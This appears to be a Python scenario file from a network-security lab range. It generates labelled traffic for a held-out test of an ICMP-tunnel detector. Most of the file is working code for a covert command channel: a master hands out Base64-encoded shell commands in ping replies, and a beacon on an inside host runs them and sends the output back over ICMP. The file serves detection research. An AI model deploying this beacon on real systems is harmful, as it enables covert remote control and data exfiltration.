"""A program asks its master for orders by echo requests, and brings what they gave the same way."""

from lab.range import Range
from lab.scenario import Scenario

# Both ends by raw sockets; the master answers by itself (its kernel does not), in Base64 as such programs do.
COMMON = """
import base64, os, socket, struct, subprocess, sys, time
wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
wire.settimeout(1.0)
def message(kind, number, octets):
    octets += b'=' * (len(octets) % 2)
    head = struct.pack('>BBHHH', kind, 0, 0, 0x2f01, number) + octets
    total = sum(struct.unpack('>%dH' % (len(head) // 2), head))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return head[:2] + struct.pack('>H', 0xffff - total) + head[4:]
def receive(kind):
    while True:
        packet, (sender, _) = wire.recvfrom(2100)
        body = packet[4 * (packet[0] & 15):]
        if body[0] == kind and body[4:6] == b'\\x2f\\x01':
            return sender, struct.unpack('>H', body[6:8])[0], body[8:]
"""
MASTER = (
    COMMON
    + """
wire.settimeout(None)
orders = [b'', b'', b'id', b'', b'cat /etc/services', b'', b'', b'cat /etc/protocols', b'', b'', b'ip neigh']
while True:
    sender, number, said = receive(8)
    if not said.startswith(b'POLL'):
        text = b'ACK'
    else:
        text = base64.b64encode(orders.pop(0) if orders else b'') or b'NONE'
    wire.sendto(message(0, number, text), (sender, 0))
"""
)
BEACON = (
    COMMON
    + """
number, end = 0, time.monotonic() + float(sys.argv[2])
def ask(octets):
    global number
    number += 1
    wire.sendto(message(8, number, octets), (sys.argv[1], 0))
    try:
        return receive(0)[2]
    except OSError:
        return b'NONE'
while time.monotonic() < end:
    order = ask(b'POLL;' + base64.b64encode(b'pc3;4711;%d' % number))
    if not order.startswith(b'NONE'):
        said = subprocess.run(base64.b64decode(order), shell=True, capture_output=True).stdout[:9000]
        said = base64.b64encode(said)
        for start in range(0, len(said), 700):
            ask(b'DATA;' + said[start:start + 700])
            time.sleep(0.15)
    time.sleep(1.5)
"""
)


def run(net: Range) -> None:
    bot, master = net.inside("pc3"), net.outside("www")
    master.sysctl(net__ipv4__icmp_echo_ignore_all="1")
    net.everyday()
    net.loop(bot, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.3)
    net.loop(net.inside("pc1"), f"ping -n -q -c 1 -W 1 {net.outside('visitor').ip}", 0.8)
    net.quiet(4)
    with net.attack(
        "icmp-tunnel",
        by=bot,
        victims=[],
        frames=f"icmp and dst host {master.ip}",
        responses=f"icmp and src host {master.ip} and dst host {bot.ip}",
    ):
        net.start(master, "/usr/bin/python3", "-c", MASTER)
        net.quiet(0.5)
        net.tool(bot, "/usr/bin/python3", "-c", BEACON, master.ip, "26", seconds=32)
    net.quiet(3)


SCENARIO = Scenario(
    name="icmp-tunnel-held-beacon",
    about="A program on an inside host fetches orders by pings every two seconds and sends what they gave.",
    detectors=("icmp-tunnel",),
    held_out=True,
    run=run,
)
